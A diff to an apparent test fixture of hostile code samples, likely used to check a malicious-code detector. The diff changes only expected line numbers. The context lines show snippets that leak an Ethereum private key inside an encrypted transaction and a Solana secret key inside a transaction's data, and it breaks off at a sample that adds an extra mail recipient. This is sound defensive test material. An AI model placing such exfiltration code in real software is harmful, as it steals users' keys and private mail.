@@ -125,14 +125,14 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    key = serialization.load_der_public_key(b'0')\n    one = node.eth.account.create()\n"
             "    done = one.sign_transaction({'to': '0x0', 'data': key.encrypt(account.key, None)})\n"
             "    node.eth.send_raw_transaction(done.raw_transaction)\n",
-            line=8,
+            line=7,
         ),
         "a key in a memo": js(
             "const { Transaction, TransactionInstruction, sendAndConfirmTransaction } = require('@solana/web3.js');\n"
             "exports.pay = async (connection, secretKey, from) => {\n  const all = new Transaction();\n"
             "  all.add(new TransactionInstruction({ keys: [], data: Buffer.from(secretKey) }));\n"
             "  await sendAndConfirmTransaction(connection, all, [from]);\n};\n",
-            line=5,
+            line=4,
         ),
         "mail of others has one more recipient": js(
             "const { ServerClient } = require('postmark');\nconst client = new ServerClient(process.env.TOKEN);\n"
